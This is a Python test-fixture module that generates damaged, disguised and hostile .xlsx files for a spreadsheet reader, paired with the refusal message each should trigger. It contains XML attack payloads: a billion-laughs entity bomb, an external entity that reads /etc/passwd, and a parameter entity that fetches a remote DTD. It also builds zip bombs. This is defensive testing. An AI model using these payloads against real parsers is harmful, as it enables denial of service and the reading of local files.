"""File-level variants: files that must be refused whole, before or while their XML is read.

Truncated and damaged zips, bytes that are no workbook at all, an encrypted
workbook (an OLE2 compound file), names of other formats, XML entity bombs
and decompression bombs.  Each is refused with one sentence naming the file.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from .variant import Base, Variant, package_variant
from .xlsx import CellXml, Package, number

DAMAGED = "{name} is damaged or incomplete and cannot be read"
NOT_A_WORKBOOK = "{name} is not an Excel workbook (its content is not .xlsx): save it as .xlsx."
NOT_AN_EXCEL_ZIP = "{name} is a zip file but not an Excel workbook: save the workbook from Excel as .xlsx."
ENCRYPTED = (
    "{name} is a password-protected (encrypted) workbook or an old .xls: "
    "remove the password (File > Info > Protect Workbook) or save it as .xlsx, then try again."
)
DECLARATION = (
    "{name} contains an XML DOCTYPE or ENTITY declaration (in {part}), which Excel never writes and which can "
    "be used to attack the reader: it was not read. Open it in Excel and save it as a new .xlsx."
)

BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{level} "' + f"&lol{level - 1 if level > 2 else ''};" * 10 + '">' for level in range(2, 10)
    )
    + "]>\n"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>\n'
)

SHARED_STRINGS_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
SHARED_STRINGS_CONTENT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _bytes_variant(name: str, family: str, suffix: str, content: Callable[[Base], bytes], expected: str) -> Variant:
    def build(base: Base, folder: Path) -> Path:
        path = folder / f"{name}{suffix}"
        path.write_bytes(content(base))
        return path

    filename = f"{name}{suffix}"
    return Variant(name, family, "file", build, expected.format(name=filename), (filename,), suffix)


def _example_bytes(base: Base) -> bytes:
    return base.package.save_bytes()


def _with_shared_strings(package: Package, strings_xml: str) -> None:
    """Make Roles A2 a shared string and add ``xl/sharedStrings.xml`` holding ``strings_xml``."""
    package.members["xl/sharedStrings.xml"] = strings_xml.encode("utf-8")
    package.edit("xl/_rels/workbook.xml.rels", lambda rels: rels.replace(
        "</Relationships>",
        f'<Relationship Type="{SHARED_STRINGS_TYPE}" Target="/xl/sharedStrings.xml" Id="rIdStrings"/></Relationships>',
    ))
    package.edit("[Content_Types].xml", lambda types: types.replace(
        "</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SHARED_STRINGS_CONTENT}"/></Types>'))
    package.set_cell("Roles", "A2", _shared(0))


def _shared(index: int) -> CellXml:
    return CellXml("s", f"<v>{index}</v>")


def _declaration_variants() -> list[Variant]:
    variants: list[Variant] = []
    strings = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'

    def laughs_in_strings(_base: Base, package: Package) -> None:
        _with_shared_strings(package, BILLION_LAUGHS + strings)

    def external_in_strings(_base: Base, package: Package) -> None:
        _with_shared_strings(package, EXTERNAL_ENTITY + f'<sst xmlns="{MAIN_NS}"><si><t>&secret;</t></si></sst>')

    def parameter_in_strings(_base: Base, package: Package) -> None:
        _with_shared_strings(package, PARAMETER_ENTITY + f'<sst xmlns="{MAIN_NS}"><si><t>x</t></si></sst>')

    def utf16_strings(_base: Base, package: Package) -> None:
        _with_shared_strings(package, "")
        document = BILLION_LAUGHS.replace("UTF-8", "UTF-16") + strings
        package.members["xl/sharedStrings.xml"] = document.encode("utf-16")

    def after_comment(_base: Base, package: Package) -> None:
        _with_shared_strings(package, "")
        package.members["xl/sharedStrings.xml"] = (
            '<?xml version="1.0"?>\n<!-- made by a friendly tool -->\n' + BILLION_LAUGHS.split("\n", 1)[1] + strings
        ).encode("utf-8")

    def long_preamble(_base: Base, package: Package) -> None:
        _with_shared_strings(package, "")
        package.members["xl/sharedStrings.xml"] = (
            '<?xml version="1.0"?>\n<!-- ' + "padding " * 4096 + "-->\n" + BILLION_LAUGHS.split("\n", 1)[1] + strings
        ).encode("utf-8")

    for name, change in (("bomb-laughs-shared-strings", laughs_in_strings),
                         ("bomb-external-entity", external_in_strings),
                         ("bomb-parameter-entity", parameter_in_strings),
                         ("bomb-laughs-utf16", utf16_strings),
                         ("bomb-laughs-after-comment", after_comment)):
        variants.append(package_variant(
            name, "file: XML entity bomb", "file", change,
            DECLARATION.format(name=f"{name}.xlsx", part="xl/sharedStrings.xml"), (f"{name}.xlsx",),
        ))
    variants.append(package_variant(
        "bomb-long-preamble", "file: XML entity bomb", "file", long_preamble,
        "bomb-long-preamble.xlsx has an XML part (xl/sharedStrings.xml) with an unusually long preamble: "
        "it was not read. Open it in Excel and save it as a new .xlsx.",
        ("bomb-long-preamble.xlsx",),
    ))
    for part in ("xl/worksheets/sheet3.xml", "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml",
                 "docProps/core.xml", "xl/_rels/workbook.xml.rels", "xl/drawings/commentsDrawing1.vml"):
        name = "bomb-laughs-in-" + part.replace("/", "-").replace("[", "").replace("]", "").replace(".", "-")

        def plant(_base: Base, package: Package, part: str = part) -> None:
            body = package.members[part]
            if body.startswith(b"<?xml"):
                body = body.split(b"?>", 1)[1]
            package.members[part] = BILLION_LAUGHS.encode("utf-8") + body

        variants.append(package_variant(
            name, "file: XML entity bomb", "file", plant, DECLARATION.format(name=f"{name}.xlsx", part=part),
            (f"{name}.xlsx",),
        ))
    return variants


def _zip_with_lying_size(base: Base) -> bytes:
    """The example with one member's declared unpacked size raised to 2 GiB (the data stay small)."""
    data = bytearray(_example_bytes(base))
    end = data.rfind(b"PK\x05\x06")
    directory = struct.unpack_from("<I", data, end + 16)[0]
    # Central directory file header: uncompressed size at offset 24.
    struct.pack_into("<I", data, directory + 24, 0x7FFF_FFFF)
    return bytes(data)


def _zip_with_flag(base: Base, member: str, flag: int | None = None, method: int | None = None) -> bytes:
    """The example with ``member``'s general-purpose flag or compression method changed in both headers."""
    data = bytearray(_example_bytes(base))
    encoded = member.encode()
    position = 0
    while (position := data.find(encoded, position + 1)) != -1:
        if data[position - 46 : position - 42] == b"PK\x01\x02":  # central directory header
            start = position - 46
            flag_at, method_at = start + 8, start + 10
        elif data[position - 30 : position - 26] == b"PK\x03\x04":  # local file header
            start = position - 30
            flag_at, method_at = start + 6, start + 8
        else:
            continue
        if flag is not None:
            struct.pack_into("<H", data, flag_at, struct.unpack_from("<H", data, flag_at)[0] | flag)
        if method is not None:
            struct.pack_into("<H", data, method_at, method)
    return bytes(data)


def _corrupt_member(base: Base, member: str) -> bytes:
    """The example with the middle of ``member``'s compressed data overwritten."""
    data = bytearray(_example_bytes(base))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(member)
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_length + extra_length
    middle = start + info.compress_size // 2
    data[middle : middle + 64] = bytes(range(64))
    return bytes(data)


def _ole2(base: Base) -> bytes:
    """A minimal OLE2 compound file header (what Excel writes around an encrypted workbook), zero-filled."""
    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    return bytes(header) + bytes(4096)


def _zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bomb_member(base: Base) -> bytes:
    package = base.fresh()
    package.members["xl/media/image1.png"] = bytes(6 * 1024 * 1024)
    return package.save_bytes(compresslevel=9)


def _bomb_in_sheet(base: Base) -> bytes:
    package = base.fresh()
    sheet = package.members["xl/worksheets/sheet8.xml"]
    padding = b" " * (8 * 1024 * 1024)
    package.members["xl/worksheets/sheet8.xml"] = sheet.replace(b"</worksheet>", padding + b"</worksheet>")
    return package.save_bytes(compresslevel=9)


def _many_members(base: Base) -> bytes:
    package = base.fresh()
    for index in range(5000):
        package.members[f"xl/media/dot{index}.bin"] = b""
    return package.save_bytes()


def _file_variants() -> list[Variant]:
    variants: list[Variant] = []
    for share in (0.1, 0.5, 0.9, 0.99):
        name = f"truncated-{int(share * 100)}pct"
        variants.append(_bytes_variant(
            name, "file: truncated zip", ".xlsx",
            lambda base, share=share: _example_bytes(base)[: int(len(_example_bytes(base)) * share)], DAMAGED,
        ))
    for cut in (1, 22, 200):
        variants.append(_bytes_variant(
            f"truncated-minus-{cut}", "file: truncated zip", ".xlsx",
            lambda base, cut=cut: _example_bytes(base)[:-cut], DAMAGED,
        ))
    variants.append(_bytes_variant("zip-magic-only", "file: truncated zip", ".xlsx", lambda _b: b"PK\x03\x04", DAMAGED))
    noise = random.Random(7).randbytes(20_000)
    not_workbooks: dict[str, bytes] = {
        "noise-random-bytes": noise,
        "noise-pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        "noise-png": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "noise-html": b"<!DOCTYPE html><html><body><table><tr><td>Role</td></tr></table></body></html>",
        "noise-csv-named-xlsx": b"Role,Loaded cost\nAccount executive,180000\n",
        "noise-utf16-text": "Role\tLoaded cost\n".encode("utf-16"),
        "noise-one-byte": b"P",
        "noise-gzip": b"\x1f\x8b\x08\x00" + bytes(32),
    }
    for name, content in not_workbooks.items():
        variants.append(_bytes_variant(name, "file: not a workbook", ".xlsx", lambda _b, c=content: c, NOT_A_WORKBOOK))
    variants.append(_bytes_variant("noise-empty-file", "file: not a workbook", ".xlsx", lambda _b: b"",
                                   "{name} is empty (0 bytes): save the workbook again as .xlsx."))
    zips: dict[str, dict[str, bytes]] = {
        "zip-plain": {"notes.txt": b"hello"},
        "zip-docx": {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"},
        "zip-empty": {},
        "zip-workbook-without-content-types": {"xl/workbook.xml": b"<workbook/>"},
    }
    for name, members in zips.items():
        variants.append(_bytes_variant(name, "file: not a workbook", ".xlsx", lambda _b, m=members: _zip_of(m),
                                       NOT_AN_EXCEL_ZIP))
    for name, suffix in (("encrypted-ole2", ".xlsx"), ("encrypted-ole2-macro", ".xlsm")):
        variants.append(_bytes_variant(name, "file: encrypted workbook", suffix, _ole2, ENCRYPTED))
    refused_names = {
        ".xls": "{name} is an Excel 97-2003 workbook (.xls), which rolemix cannot read: open it in Excel and save it "
                "as .xlsx.",
        ".xlsb": "{name} is an Excel binary workbook (.xlsb), which rolemix cannot read: open it in Excel and save it "
                 "as .xlsx.",
        ".csv": "{name} is a CSV file, not a workbook: put its data into the rolemix template and save that as .xlsx.",
        ".ods": "{name} is an OpenDocument spreadsheet (.ods), which rolemix cannot read: save it as .xlsx (Excel "
                "2007-365).",
        ".numbers": "{name} is an Apple Numbers file, which rolemix cannot read: export it to Excel (.xlsx).",
        ".txt": "{name} has '.txt', not .xlsx: rolemix reads Excel workbooks; save it as .xlsx.",
        ".backup": "{name} has '.backup', not .xlsx: rolemix reads Excel workbooks; save it as .xlsx.",
    }
    for suffix, expected in refused_names.items():
        variants.append(_bytes_variant(f"named{suffix.replace('.', '-')}", "file: other format by name", suffix,
                                       _example_bytes, expected))
    variants.append(_bytes_variant(
        "named-no-extension", "file: other format by name", "", _example_bytes,
        "{name} has no extension, not .xlsx: rolemix reads Excel workbooks; save it as .xlsx.",
    ))
    variants.append(_bytes_variant(
        "bomb-ratio-member", "file: zip bomb", ".xlsx", _bomb_member,
        "{name} has a part (xl/media/image1.png) that unpacks",
    ))
    variants.append(_bytes_variant(
        "bomb-ratio-in-sheet", "file: zip bomb", ".xlsx", _bomb_in_sheet,
        "{name} has a part (xl/worksheets/sheet8.xml) that unpacks",
    ))
    variants.append(_bytes_variant("bomb-declared-size", "file: zip bomb", ".xlsx", _zip_with_lying_size,
                                   "{name} would unpack to "))
    variants.append(_bytes_variant(
        "bomb-many-parts", "file: zip bomb", ".xlsx", _many_members,
        "{name} holds 5,098 parts, more than the 5,000 a workbook may have: "
        "it is not a workbook rolemix can read safely.",
    ))
    variants.append(_bytes_variant(
        "zip-member-encrypted", "file: damaged zip", ".xlsx",
        lambda base: _zip_with_flag(base, "xl/workbook.xml", flag=0x1), DAMAGED,
    ))
    variants.append(_bytes_variant(
        "zip-unknown-compression", "file: damaged zip", ".xlsx",
        lambda base: _zip_with_flag(base, "xl/worksheets/sheet3.xml", method=99), DAMAGED,
    ))
    for member in ("xl/worksheets/sheet3.xml", "xl/worksheets/sheet8.xml", "xl/styles.xml"):
        name = "zip-corrupt-" + member.rsplit("/", 1)[1].replace(".", "-")
        variants.append(_bytes_variant(name, "file: damaged zip", ".xlsx",
                                       lambda base, member=member: _corrupt_member(base, member), DAMAGED))
    return variants


def _part_variants() -> list[Variant]:
    variants: list[Variant] = []

    def drop(part: str) -> Callable[[Base, Package], None]:
        def change(_base: Base, package: Package) -> None:
            del package.members[part]

        return change

    for name, part in (("part-missing-content-types", "[Content_Types].xml"),
                       ("part-missing-workbook", "xl/workbook.xml")):
        variants.append(package_variant(name, "file: damaged workbook", "file", drop(part),
                                        NOT_AN_EXCEL_ZIP.format(name=f"{name}.xlsx"), (f"{name}.xlsx",)))
    variants.append(package_variant(
        "part-missing-units-sheet", "file: damaged workbook", "file", drop("xl/worksheets/sheet4.xml"),
        "part-missing-units-sheet.xlsx is damaged or incomplete and cannot be read (the cells of sheet 'Units' are "
        "missing)",
        ("part-missing-units-sheet.xlsx",),
    ))
    variants.append(package_variant(
        "part-missing-workbook-relationships", "file: damaged workbook", "file", drop("xl/_rels/workbook.xml.rels"),
        "part-missing-workbook-relationships.xlsx is damaged or incomplete and cannot be read (the cells of sheet "
        "'Instructions' are missing)",
        ("part-missing-workbook-relationships.xlsx",),
    ))

    def cut_sheet(_base: Base, package: Package) -> None:
        package.members["xl/worksheets/sheet3.xml"] = package.members["xl/worksheets/sheet3.xml"][:1500]

    def latin1_sheet(_base: Base, package: Package) -> None:
        package.members["xl/worksheets/sheet4.xml"] = package.members["xl/worksheets/sheet4.xml"].replace(
            b"Americas", "Améric\xe0s".encode("latin-1"), 1)

    def missing_shared_string(_base: Base, package: Package) -> None:
        package.set_cell("Roles", "A2", _shared(999))

    def far_column(_base: Base, package: Package) -> None:
        package.set_cell("Roles", "B2", number("1"))
        package.edit("xl/worksheets/sheet3.xml", lambda xml: xml.replace('<c r="B2"', '<c r="ZZZZZZ2"', 1))

    def no_letters(_base: Base, package: Package) -> None:
        package.edit("xl/worksheets/sheet3.xml", lambda xml: xml.replace('<c r="B2"', '<c r="2"', 1))

    def bad_row_number(_base: Base, package: Package) -> None:
        package.edit("xl/worksheets/sheet3.xml", lambda xml: xml.replace('<row r="2"', '<row r="two"', 1))

    def bad_style_number(_base: Base, package: Package) -> None:
        package.edit("xl/styles.xml", lambda xml: xml.replace('numFmtId="49"', 'numFmtId="forty-nine"', 1))

    for name, change in (("part-sheet-cut-short", cut_sheet), ("part-sheet-not-utf8", latin1_sheet),
                         ("part-missing-shared-string", missing_shared_string),
                         ("part-cell-beyond-last-column", far_column), ("part-cell-without-column", no_letters),
                         ("part-row-number-text", bad_row_number), ("part-style-number-text", bad_style_number)):
        variants.append(package_variant(name, "file: damaged workbook", "file", change,
                                        DAMAGED.format(name=f"{name}.xlsx"), (f"{name}.xlsx",)))
    return variants


def file_variants() -> list[Variant]:
    """Every file-level variant."""
    return _file_variants() + _part_variants() + _declaration_variants()
